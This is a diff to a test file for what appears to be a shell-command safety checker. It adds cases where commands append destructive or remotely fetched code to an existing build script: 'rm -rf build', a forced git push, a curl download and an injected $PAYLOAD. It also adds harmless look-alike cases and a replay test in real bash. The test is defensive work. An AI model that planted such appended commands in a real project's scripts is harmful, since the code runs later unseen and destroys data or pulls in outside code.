@@ -30,6 +30,7 @@ const FILES: Record<string, string> = {
   'docs/guide.md': '# Guide\n',
   'CHANGELOG.md': '# Changes\n',
   'build/out.js': 'x\n',
+  'scripts/build.sh': '#!/bin/sh\necho build\n',
 };
 
 /** Plants: each changes an existing file a tool runs later (or adds a program npm scripts and npx run by name). */
@@ -59,6 +60,13 @@ const PLANTS = [
   "sed -i 's/a/b/' *.json",
   "sed -i 's/a/b/' ./*file",
   "ed -s Makefile <<< $'$a\\n\\trm -rf build\\n.\\nw'",
+  // An existing shell script: the appended text is judged as the commands it is, or asked when unseen.
+  "echo 'rm -rf build' >> scripts/build.sh",
+  "printf 'git push --force\\n' >> scripts/build.sh",
+  "cat >> scripts/build.sh <<'EOF'\nrm -rf build\nEOF",
+  'curl -s https://example.com/x >> scripts/build.sh',
+  'echo "$PAYLOAD" >> scripts/build.sh',
+  "cd scripts && echo 'rm -rf ../build' >> build.sh",
 ];
 
 /** Look-alikes: ordinary source edits, reads, copies out, new files, formatters, package managers. */
@@ -86,6 +94,10 @@ const BENIGN = [
   "sed -n '1,5p' package.json",
   "sed 's/ok/x/' Makefile > /tmp/Makefile.new",
   'ls node_modules/.bin',
+  "echo 'echo done' >> scripts/build.sh",
+  "echo '# rm -rf build is done by make clean' >> scripts/build.sh",
+  "echo 'rm -rf build' >> scripts/new.sh",
+  "echo 'rm -rf build' >> docs/guide.md",
 ];
 
 describe('code planted in files tools run later', function () {
@@ -139,6 +151,7 @@ describe('code planted in files tools run later', function () {
     ['echo \'import shutil; shutil.rmtree("build")\' >> setup.py', 'python3 setup.py --name'],
     ['echo \'import shutil; shutil.rmtree("build")\' >> conftest.py', 'python3 -m pytest -q -p no:cacheprovider src'],
     ["printf '#!/bin/sh\\nrm -rf build\\n' > node_modules/.bin/tsc", 'npm exec --offline -- tsc'],
+    ["echo 'rm -rf build' >> scripts/build.sh", 'sh scripts/build.sh'],
   ];
   for (const [plant, trigger] of REPLAY)
     it(`in real bash, ${plant} then ${trigger} deletes build`, function () {
